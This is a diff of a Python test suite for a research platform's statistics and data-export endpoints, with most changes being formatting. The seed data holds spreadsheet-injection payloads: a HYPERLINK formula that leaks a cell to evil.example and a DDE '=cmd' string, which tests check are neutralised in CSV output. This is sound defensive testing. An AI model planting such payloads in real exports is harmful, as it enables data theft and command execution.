@@ -15,15 +15,14 @@ import json
 import time
 import zipfile
 from dataclasses import dataclass, field
-from datetime import datetime, timedelta, timezone
+from datetime import UTC, datetime, timedelta
 
 import requests
 
 from shared.ops import cli
-from shared.research import researchers
 from tests.support import assert_error, new_guest_key, register, rows, scalar
 
-TODAY = datetime.now(timezone.utc).date()
+TODAY = datetime.now(UTC).date()
 # created_at of the seeded sessions: days ago, at noon UTC.
 DAYS_AGO = {"g1-first": 40, "g1-second": 3, "g2": 3, "u2-own": 2, "g3": 1, "b": 0, "none": 0, "empty": 5}
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -41,7 +40,7 @@ class Study:
 
 def moment(days_ago: int, minutes: int = 0) -> datetime:
     day = TODAY - timedelta(days=days_ago)
-    return datetime(day.year, day.month, day.day, 12, tzinfo=timezone.utc) + timedelta(minutes=minutes)
+    return datetime(day.year, day.month, day.day, 12, tzinfo=UTC) + timedelta(minutes=minutes)
 
 
 def seed(world, auth_emulator, db) -> Study:
@@ -54,15 +53,17 @@ def seed(world, auth_emulator, db) -> Study:
     study.secrets += list(keys.values())
 
     def session(name, key=None, token=None, experiment="a", metadata=None):
-        answer = api.post("create_session", {"experimentId": experiment, "metadata": metadata or {"n": name}},
-                          guest=key, token=token)
+        answer = api.post(
+            "create_session", {"experimentId": experiment, "metadata": metadata or {"n": name}}, guest=key, token=token
+        )
         assert answer.status_code == 201, answer.text
         study.sessions[name] = answer.json()["sessionId"]
         return answer.json()
 
     def respond(name, level, data, key=None, token=None):
-        answer = api.post("submit_response", {"sessionId": study.sessions[name], "level": level, "data": data},
-                          guest=key, token=token)
+        answer = api.post(
+            "submit_response", {"sessionId": study.sessions[name], "level": level, "data": data}, guest=key, token=token
+        )
         assert answer.status_code == 201, answer.text
 
     study.numbers["g1"] = session("g1-first", keys["g1"])["visitorNumber"]
@@ -98,21 +99,30 @@ def seed(world, auth_emulator, db) -> Study:
         from sqlalchemy import text
 
         for name, days in DAYS_AGO.items():
-            conn.execute(text("UPDATE sessions SET created_at = :t WHERE id = :id"),
-                         {"t": moment(days), "id": study.sessions[name]})
-            conn.execute(text("UPDATE responses SET created_at = CAST(:t AS timestamptz) + (level + 1) * interval '1 minute' "
-                              "WHERE session_id = :id"), {"t": moment(days), "id": study.sessions[name]})
+            conn.execute(
+                text("UPDATE sessions SET created_at = :t WHERE id = :id"),
+                {"t": moment(days), "id": study.sessions[name]},
+            )
+            conn.execute(
+                text(
+                    "UPDATE responses SET created_at = CAST(:t AS timestamptz) + (level + 1) * interval '1 minute' "
+                    "WHERE session_id = :id"
+                ),
+                {"t": moment(days), "id": study.sessions[name]},
+            )
     return study
 
 
 def stats(api, token, **params):
-    return requests.get(api.url("get_study_stats"), params=params, timeout=30,
-                        headers={"Authorization": f"Bearer {token}"})
+    return requests.get(
+        api.url("get_study_stats"), params=params, timeout=30, headers={"Authorization": f"Bearer {token}"}
+    )
 
 
 def export(api, token, **params):
-    return requests.get(api.url("export_data"), params=params, timeout=120,
-                        headers={"Authorization": f"Bearer {token}"})
+    return requests.get(
+        api.url("export_data"), params=params, timeout=120, headers={"Authorization": f"Bearer {token}"}
+    )
 
 
 def day(days_ago: int) -> str:
@@ -134,20 +144,29 @@ def utc(days_ago: int) -> str:
 
 # --- Authorization ---------------------------------------------------------------
 
+
 def test_researcher_functions_refuse_everyone_else(api, auth_emulator):
     for function in ("get_study_stats", "export_data"):
         assert_error(requests.get(api.url(function), timeout=10), 401, "unauthenticated")
-        assert_error(requests.get(api.url(function), headers={"X-Guest-Key": new_guest_key()}, timeout=10),
-                     401, "unauthenticated")
+        assert_error(
+            requests.get(api.url(function), headers={"X-Guest-Key": new_guest_key()}, timeout=10),
+            401,
+            "unauthenticated",
+        )
         plain = auth_emulator.new_user()
-        error = assert_error(requests.get(api.url(function), timeout=10,
-                                          headers={"Authorization": f"Bearer {plain.id_token}"}), 403,
-                             "permission_denied")
+        error = assert_error(
+            requests.get(api.url(function), timeout=10, headers={"Authorization": f"Bearer {plain.id_token}"}),
+            403,
+            "permission_denied",
+        )
         assert "researcher" in error["message"]
         for claim in (False, "yes", [], [""], {"a": True}):
             odd = auth_emulator.researcher(claim)
-            assert_error(requests.get(api.url(function), timeout=10,
-                                      headers={"Authorization": f"Bearer {odd.id_token}"}), 403, "permission_denied")
+            assert_error(
+                requests.get(api.url(function), timeout=10, headers={"Authorization": f"Bearer {odd.id_token}"}),
+                403,
+                "permission_denied",
+            )
 
 
 def test_a_scoped_researcher_sees_only_its_experiments(uploads_world, auth_emulator, db):
@@ -199,15 +218,23 @@ def test_granting_and_revoking_the_claim_with_the_command(api, auth_emulator, st
 
 def test_bad_queries_are_400(api, auth_emulator):
     token = auth_emulator.researcher(True).id_token
-    for params in ({"experimentId": "a b"}, {"format": "xml"}, {"format": "zip", "table": "responses"},
-                   {"format": "csv", "table": "users"}, {"from": "yesterday"}, {"from": "2026-12-01"},
-                   {"from": "2026-12-02T00:00:00Z", "to": "2026-12-01T00:00:00Z"}, {"email": "x"},
-                   {"format": ["csv", "jsonl"]}):
+    for params in (
+        {"experimentId": "a b"},
+        {"format": "xml"},
+        {"format": "zip", "table": "responses"},
+        {"format": "csv", "table": "users"},
+        {"from": "yesterday"},
+        {"from": "2026-12-01"},
+        {"from": "2026-12-02T00:00:00Z", "to": "2026-12-01T00:00:00Z"},
+        {"email": "x"},
+        {"format": ["csv", "jsonl"]},
+    ):
         assert_error(export(api, token, **params), 400, "invalid_argument")
     assert_error(stats(api, token, format="csv"), 400, "invalid_argument")
 
 
 # --- get_study_stats ---------------------------------------------------------------
+
 
 def test_the_figures_of_a_seeded_study(uploads_world, auth_emulator, db):
     seed(uploads_world, auth_emulator, db)
@@ -215,26 +242,54 @@ def test_the_figures_of_a_seeded_study(uploads_world, auth_emulator, db):
     assert answer.status_code == 200, answer.text
     body = answer.json()
     generated = datetime.fromisoformat(body["generatedAt"])
-    assert abs(generated - datetime.now(timezone.utc)) < timedelta(minutes=1)
+    assert abs(generated - datetime.now(UTC)) < timedelta(minutes=1)
     a, b, none = body["experiments"]
     # Visitors of a: g1, u1 (was g2), u2 (claimed g3): 3, two of them registered.
     # Sessions: g1-first, g1-second, g2, u2-own, g3, empty: 6; responses 3+1+2+1+2 = 9.
     assert a == {
-        "experimentId": "a", "visitors": 3, "registeredVisitors": 2, "sessions": 6, "responses": 9, "uploads": 1,
-        "firstSessionAt": utc(40), "lastSessionAt": utc(1),
+        "experimentId": "a",
+        "visitors": 3,
+        "registeredVisitors": 2,
+        "sessions": 6,
+        "responses": 9,
+        "uploads": 1,
+        "firstSessionAt": utc(40),
+        "lastSessionAt": utc(1),
         # highest levels: g1-first 2, g1-second 0, g2 1, u2-own 0, g3 3 (reached 0 and 3 only); empty none
-        "levels": [{"level": 0, "sessions": 5}, {"level": 1, "sessions": 3}, {"level": 2, "sessions": 2},
-                   {"level": 3, "sessions": 1}],
+        "levels": [
+            {"level": 0, "sessions": 5},
+            {"level": 1, "sessions": 3},
+            {"level": 2, "sessions": 2},
+            {"level": 3, "sessions": 1},
+        ],
         # g1 is new 40 days ago (outside the 30 days); u1 (g2's sessions) 3 days ago; u2 2 days ago
         # (g3's session of 1 day ago is u2's now)
         "daily": daily(d5=(0, 1, 0), d3=(1, 2, 3), d2=(1, 1, 1), d1=(0, 1, 2)),
     }
-    assert b == {"experimentId": "b", "visitors": 1, "registeredVisitors": 0, "sessions": 1, "responses": 1,
-                 "uploads": 0, "firstSessionAt": utc(0), "lastSessionAt": utc(0),
-                 "levels": [{"level": 0, "sessions": 1}], "daily": daily(d0=(1, 1, 1))}
-    assert none == {"experimentId": None, "visitors": 1, "registeredVisitors": 0, "sessions": 1, "responses": 0,
-                    "uploads": 0, "firstSessionAt": utc(0), "lastSessionAt": utc(0), "levels": [],
-                    "daily": daily(d0=(1, 1, 0))}
+    assert b == {
+        "experimentId": "b",
+        "visitors": 1,
+        "registeredVisitors": 0,
+        "sessions": 1,
+        "responses": 1,
+        "uploads": 0,
+        "firstSessionAt": utc(0),
+        "lastSessionAt": utc(0),
+        "levels": [{"level": 0, "sessions": 1}],
+        "daily": daily(d0=(1, 1, 1)),
+    }
+    assert none == {
+        "experimentId": None,
+        "visitors": 1,
+        "registeredVisitors": 0,
+        "sessions": 1,
+        "responses": 0,
+        "uploads": 0,
+        "firstSessionAt": utc(0),
+        "lastSessionAt": utc(0),
+        "levels": [],
+        "daily": daily(d0=(1, 1, 0)),
+    }
     only_none = stats(uploads_world.api, auth_emulator.researcher(True).id_token, experimentId="").json()
     assert only_none["experiments"] == [none]
 
@@ -247,45 +302,101 @@ def test_no_sessions_no_experiments(api, auth_emulator):
 
 # --- export_data ---------------------------------------------------------------------
 
+
 def expected_tables(study: Study, db) -> dict[str, list[dict]]:
     """Every table's rows as SPEC §10 states them, as JSON values, from what the seed made."""
     s = study.sessions
     number = {"g1": study.numbers["g1"], "u1": study.numbers["g2"], "u2": study.numbers["u2"]}
     owner = {"g1-first": "g1", "g1-second": "g1", "empty": "g1", "g2": "u1", "u2-own": "u2", "g3": "u2"}
-    responses_of = {"g1-first": [(0, {"q": 1}), (1, {"q": 2}), (2, FORMULA)], "g1-second": [(0, -5)],
-                    "g2": [(0, "first"), (1, None)], "u2-own": [(0, {"u2": True})],
-                    "g3": [(0, {"g3": 1}), (3, {"g3": 2})], "b": [(0, {"b": 1})]}
+    responses_of = {
+        "g1-first": [(0, {"q": 1}), (1, {"q": 2}), (2, FORMULA)],
+        "g1-second": [(0, -5)],
+        "g2": [(0, "first"), (1, None)],
+        "u2-own": [(0, {"u2": True})],
+        "g3": [(0, {"g3": 1}), (3, {"g3": 2})],
+        "b": [(0, {"b": 1})],
+    }
     ids = {(str(r.session_id), r.level): str(r.id) for r in rows(db, "SELECT id, session_id, level FROM responses")}
     experiment = {name: "a" for name in owner} | {"b": "b", "none": None}
     visitor_number = {name: number[who] for name, who in owner.items()}
-    visitor_number |= {name: scalar(db, "SELECT visitor_number FROM sessions WHERE id = :id", id=s[name])
-                       for name in ("b", "none")}
+    visitor_number |= {
+        name: scalar(db, "SELECT visitor_number FROM sessions WHERE id = :id", id=s[name]) for name in ("b", "none")
+    }
     registered = {name: owner.get(name, "").startswith("u") for name in experiment}
-    responses = [{"responseId": ids[(s[name], level)], "sessionId": s[name], "visitorNumber": visitor_number[name],
-                  "experimentId": experiment[name], "level": level,
-                  "createdAt": (moment(DAYS_AGO[name], level + 1)).strftime("%Y-%m-%dT%H:%M:%S.%fZ"), "data": data}
-                 for name, answers in responses_of.items() for level, data in answers]
-    metadata = {name: {"n": name} for name in experiment} | {"g1-second": {"lead": "-1+1", "tag": "@x"}}
-    sessions = [{"sessionId": s[name], "visitorNumber": visitor_number[name], "experimentId": experiment[name],
-                 "registered": registered[name], "createdAt": utc(DAYS_AGO[name]),
-                 "responseCount": len(responses_of.get(name, [])),
-                 "maxLevel": max((level for level, _ in responses_of.get(name, [])), default=None),
-                 "uploadCount": 1 if name == "g3" else 0, "metadata": metadata[name]}
-                for name in experiment]
-    visitors = [
-        {"visitorNumber": number["g1"], "registered": False, "firstSessionAt": utc(40), "sessionCount": 3,
-         "mergedFromVisitorNumbers": []},
-        {"visitorNumber": number["u1"], "registered": True, "firstSessionAt": utc(3), "sessionCount": 1,
-         "mergedFromVisitorNumbers": []},
-        {"visitorNumber": number["u2"], "registered": True, "firstSessionAt": utc(2), "sessionCount": 2,
-         "mergedFromVisitorNumbers": [study.numbers["g3"]]},
-        {"visitorNumber": visitor_number["b"], "registered": False, "firstSessionAt": utc(0), "sessionCount": 1,
-         "mergedFromVisitorNumbers": []},
-        {"visitorNumber": visitor_number["none"], "registered": False, "firstSessionAt": utc(0), "sessionCount": 1,
-         "mergedFromVisitorNumbers": []},
+    responses = [
+        {
+            "responseId": ids[(s[name], level)],
+            "sessionId": s[name],
+            "visitorNumber": visitor_number[name],
+            "experimentId": experiment[name],
+            "level": level,
+            "createdAt": (moment(DAYS_AGO[name], level + 1)).strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
+            "data": data,
+        }
+        for name, answers in responses_of.items()
+        for level, data in answers
     ]
-    upload = {"uploadId": study.upload_id, "sessionId": s["g3"], "visitorNumber": number["u2"], "experimentId": "a",
-              "name": f"sessions/{s['g3']}/photo.png", "contentType": "=cmd|' /c calc'!a0", "size": 9}
+    metadata = {name: {"n": name} for name in experiment} | {"g1-second": {"lead": "-1+1", "tag": "@x"}}
+    sessions = [
+        {
+            "sessionId": s[name],
+            "visitorNumber": visitor_number[name],
+            "experimentId": experiment[name],
+            "registered": registered[name],
+            "createdAt": utc(DAYS_AGO[name]),
+            "responseCount": len(responses_of.get(name, [])),
+            "maxLevel": max((level for level, _ in responses_of.get(name, [])), default=None),
+            "uploadCount": 1 if name == "g3" else 0,
+            "metadata": metadata[name],
+        }
+        for name in experiment
+    ]
+    visitors = [
+        {
+            "visitorNumber": number["g1"],
+            "registered": False,
+            "firstSessionAt": utc(40),
+            "sessionCount": 3,
+            "mergedFromVisitorNumbers": [],
+        },
+        {
+            "visitorNumber": number["u1"],
+            "registered": True,
+            "firstSessionAt": utc(3),
+            "sessionCount": 1,
+            "mergedFromVisitorNumbers": [],
+        },
+        {
+            "visitorNumber": number["u2"],
+            "registered": True,
+            "firstSessionAt": utc(2),
+            "sessionCount": 2,
+            "mergedFromVisitorNumbers": [study.numbers["g3"]],
+        },
+        {
+            "visitorNumber": visitor_number["b"],
+            "registered": False,
+            "firstSessionAt": utc(0),
+            "sessionCount": 1,
+            "mergedFromVisitorNumbers": [],
+        },
+        {
+            "visitorNumber": visitor_number["none"],
+            "registered": False,
+            "firstSessionAt": utc(0),
+            "sessionCount": 1,
+            "mergedFromVisitorNumbers": [],
+        },
+    ]
+    upload = {
+        "uploadId": study.upload_id,
+        "sessionId": s["g3"],
+        "visitorNumber": number["u2"],
+        "experimentId": "a",
+        "name": f"sessions/{s['g3']}/photo.png",
+        "contentType": "=cmd|' /c calc'!a0",
+        "size": 9,
+    }
     return {"responses": responses, "sessions": sessions, "visitors": visitors, "uploads": [upload]}
 
 
@@ -344,11 +455,16 @@ def test_the_zip_holds_every_table_exactly_and_nothing_personal(uploads_world, a
         content = archive.read(f"{table}.csv")
         for secret in study.secrets:
             assert secret.encode() not in content
-        assert manifest["files"][f"{table}.csv"] == {"rows": len(expected[table]), "bytes": len(content),
-                                                     "sha256": hashlib.sha256(content).hexdigest()}
+        assert manifest["files"][f"{table}.csv"] == {
+            "rows": len(expected[table]),
+            "bytes": len(content),
+            "sha256": hashlib.sha256(content).hexdigest(),
+        }
         header = content.decode().split("\n", 1)[0]
         assert header == ",".join(expected_columns(table))
-        assert by_key(table, _no_upload_time(csv_as_json(table, content.decode()))) == by_key(table, _no_upload_time(expected[table]))
+        assert by_key(table, _no_upload_time(csv_as_json(table, content.decode()))) == by_key(
+            table, _no_upload_time(expected[table])
+        )
     # The same tables as JSON Lines: the same rows, and the formula verbatim.
     for table in ("responses", "sessions", "visitors", "uploads"):
         lines = export(uploads_world.api, token, format="jsonl", table=table)
@@ -360,20 +476,40 @@ def test_the_zip_holds_every_table_exactly_and_nothing_personal(uploads_world, a
         as_csv = export(uploads_world.api, token, format="csv", table=table)
         assert as_csv.headers["Content-Type"].startswith("text/csv")
         assert by_key(table, _no_upload_time(csv_as_json(table, as_csv.text))) == by_key(table, _no_upload_time(items))
-    [upload] = [json.loads(line) for line in export(uploads_world.api, token, format="jsonl", table="uploads").text.splitlines()]
+    [upload] = [
+        json.loads(line) for line in export(uploads_world.api, token, format="jsonl", table="uploads").text.splitlines()
+    ]
     assert upload["gsUri"] == f"gs://{uploads_world.bucket.name}/sessions/{study.sessions['g3']}/photo.png"
-    assert datetime.fromisoformat(upload["uploadedAt"]) <= datetime.now(timezone.utc)
+    assert datetime.fromisoformat(upload["uploadedAt"]) <= datetime.now(UTC)
 
 
 def expected_columns(table: str) -> list[str]:
     """SPEC §10's columns, as the SPEC lists them."""
     return {
         "responses": ["responseId", "sessionId", "visitorNumber", "experimentId", "level", "createdAt", "data"],
-        "sessions": ["sessionId", "visitorNumber", "experimentId", "registered", "createdAt", "responseCount",
-                     "maxLevel", "uploadCount", "metadata"],
+        "sessions": [
+            "sessionId",
+            "visitorNumber",
+            "experimentId",
+            "registered",
+            "createdAt",
+            "responseCount",
+            "maxLevel",
+            "uploadCount",
+            "metadata",
+        ],
         "visitors": ["visitorNumber", "registered", "firstSessionAt", "sessionCount", "mergedFromVisitorNumbers"],
-        "uploads": ["uploadId", "sessionId", "visitorNumber", "experimentId", "name", "contentType", "size",
-                    "uploadedAt", "gsUri"],
+        "uploads": [
+            "uploadId",
+            "sessionId",
+            "visitorNumber",
+            "experimentId",
+            "name",
+            "contentType",
+            "size",
+            "uploadedAt",
+            "gsUri",
+        ],
     }[table]
 
 
@@ -391,15 +527,16 @@ def test_formulas_are_neutralised_in_csv_and_verbatim_in_jsonl(uploads_world, au
     # A JSON string is written as JSON text, quotes included: no spreadsheet runs it.
     assert json.dumps(FORMULA) in cells
     assert "'-5" in cells and "-5" not in cells  # a negative number starts with a minus: guarded
-    assert all(not cell[:1] in ("=", "+", "-", "@") for row in responses for cell in row)
+    assert all(cell[:1] not in ("=", "+", "-", "@") for row in responses for cell in row)
     uploads = list(csv.reader(io.StringIO(export(uploads_world.api, token, format="csv", table="uploads").text)))
     assert uploads[1][5] == "'=cmd|' /c calc'!a0"
     sessions = list(csv.reader(io.StringIO(export(uploads_world.api, token, format="csv", table="sessions").text)))
-    assert all(not cell[:1] in ("=", "+", "-", "@") for row in sessions for cell in row)
+    assert all(cell[:1] not in ("=", "+", "-", "@") for row in sessions for cell in row)
     jsonl = [json.loads(line) for line in export(uploads_world.api, token, format="jsonl").text.splitlines()]
     assert FORMULA in [item["data"] for item in jsonl] and -5 in [item["data"] for item in jsonl]
-    [upload] = [json.loads(line) for line in
-                export(uploads_world.api, token, format="jsonl", table="uploads").text.splitlines()]
+    [upload] = [
+        json.loads(line) for line in export(uploads_world.api, token, format="jsonl", table="uploads").text.splitlines()
+    ]
     assert upload["contentType"] == "=cmd|' /c calc'!a0"
 
 
@@ -428,7 +565,11 @@ def test_filters_select_exactly(uploads_world, auth_emulator, db):
     manifest = json.loads(archive.read("manifest.json"))
     assert manifest["filters"] == {"experimentIds": ["b"], "from": None, "to": utc(0)}
     assert {name: f["rows"] for name, f in manifest["files"].items()} == {
-        "responses.csv": 0, "sessions.csv": 0, "visitors.csv": 0, "uploads.csv": 0}
+        "responses.csv": 0,
+        "sessions.csv": 0,
+        "visitors.csv": 0,
+        "uploads.csv": 0,
+    }
 
 
 def test_an_export_is_one_snapshot_while_rows_are_written(uploads_world, auth_emulator, db):
@@ -443,14 +584,20 @@ def test_an_export_is_one_snapshot_while_rows_are_written(uploads_world, auth_em
 
         # random text (md5 of random numbers): the zip cannot shrink it much, so it is far
         # larger than the export's queue and the sockets' buffers
-        conn.execute(text("INSERT INTO responses (id, session_id, visitor_number, level, data) "
-                          "SELECT gen_random_uuid(), s.id, s.visitor_number, 0, "
-                          "       to_jsonb(md5(random()::text) || md5(random()::text) || md5(random()::text)"
-                          "                || md5(random()::text) || md5(random()::text) || md5(random()::text)) "
-                          "FROM sessions s, generate_series(1, 60000) WHERE s.id = :id"), {"id": old})
+        conn.execute(
+            text(
+                "INSERT INTO responses (id, session_id, visitor_number, level, data) "
+                "SELECT gen_random_uuid(), s.id, s.visitor_number, 0, "
+                "       to_jsonb(md5(random()::text) || md5(random()::text) || md5(random()::text)"
+                "                || md5(random()::text) || md5(random()::text) || md5(random()::text)) "
+                "FROM sessions s, generate_series(1, 60000) WHERE s.id = :id"
+            ),
+            {"id": old},
+        )
     token = auth_emulator.researcher(True).id_token
-    with requests.get(api.url("export_data"), headers={"Authorization": f"Bearer {token}"}, stream=True,
-                      timeout=120) as answer:
+    with requests.get(
+        api.url("export_data"), headers={"Authorization": f"Bearer {token}"}, stream=True, timeout=120
+    ) as answer:
         assert answer.status_code == 200
         body = answer.raw
         first = body.read(64 * 1024)  # the export has begun (its snapshot is taken)...
@@ -459,9 +606,15 @@ def test_an_export_is_one_snapshot_while_rows_are_written(uploads_world, auth_em
             assert api.post("submit_response", {"sessionId": old, "data": "later"}, guest=key).status_code == 201
             assert api.post("submit_response", {"sessionId": new, "data": "later"}, guest=key).status_code == 201
         # ...and has not ended: its transaction is still open, waiting for this client
-        assert scalar(db, "SELECT count(*) FROM pg_stat_activity WHERE backend_type = 'client backend' "
-                          "AND state IN ('active', 'idle in transaction') "
-                          "AND query LIKE '%export%' AND pid <> pg_backend_pid()") == 1
+        assert (
+            scalar(
+                db,
+                "SELECT count(*) FROM pg_stat_activity WHERE backend_type = 'client backend' "
+                "AND state IN ('active', 'idle in transaction') "
+                "AND query LIKE '%export%' AND pid <> pg_backend_pid()",
+            )
+            == 1
+        )
         content = first + body.read()
     archive = zipfile.ZipFile(io.BytesIO(content))
     responses = csv_as_json("responses", archive.read("responses.csv").decode())
@@ -486,18 +639,51 @@ def test_the_command_writes_the_bytes_the_function_answers(uploads_world, auth_e
     for table in ("responses", "sessions", "visitors", "uploads"):
         for format_ in ("csv", "jsonl"):
             out = tmp_path / f"{table}.{format_}"
-            done = subprocess.run([sys.executable, "-m", "shared.export", "--out", str(out), "--format", format_,
-                                   "--table", table, "--experiment", "a", "--experiment", "",
-                                   "--from", utc(40)], env=env, capture_output=True, text=True, timeout=120)
+            done = subprocess.run(
+                [
+                    sys.executable,
+                    "-m",
+                    "shared.export",
+                    "--out",
+                    str(out),
+                    "--format",
+                    format_,
+                    "--table",
+                    table,
+                    "--experiment",
+                    "a",
+                    "--experiment",
+                    "",
+                    "--from",
+                    utc(40),
+                ],
+                env=env,
+                capture_output=True,
+                text=True,
+                timeout=120,
+            )
             assert done.returncode == 0, done.stderr
-            answer = export(uploads_world.api, token, format=format_, table=table, experimentId=["a", ""],
-                            **{"from": utc(40)})
+            answer = export(
+                uploads_world.api, token, format=format_, table=table, experimentId=["a", ""], **{"from": utc(40)}
+            )
             assert out.read_bytes() == answer.content and answer.content.count(b"\n") >= 1  # not empty
     zipped = tmp_path / "study.zip"
-    assert subprocess.run([sys.executable, "-m", "shared.export", "--out", str(zipped)], env=env,
-                          timeout=120).returncode == 0
-    assert zipfile.ZipFile(zipped).namelist() == ["responses.csv", "sessions.csv", "visitors.csv", "uploads.csv",
-                                                  "manifest.json"]
-    bad = subprocess.run([sys.executable, "-m", "shared.export", "--out", str(zipped), "--format", "xml"], env=env,
-                         capture_output=True, text=True, timeout=120)
+    assert (
+        subprocess.run([sys.executable, "-m", "shared.export", "--out", str(zipped)], env=env, timeout=120).returncode
+        == 0
+    )
+    assert zipfile.ZipFile(zipped).namelist() == [
+        "responses.csv",
+        "sessions.csv",
+        "visitors.csv",
+        "uploads.csv",
+        "manifest.json",
+    ]
+    bad = subprocess.run(
+        [sys.executable, "-m", "shared.export", "--out", str(zipped), "--format", "xml"],
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert bad.returncode == 2 and "format must be one of" in bad.stderr
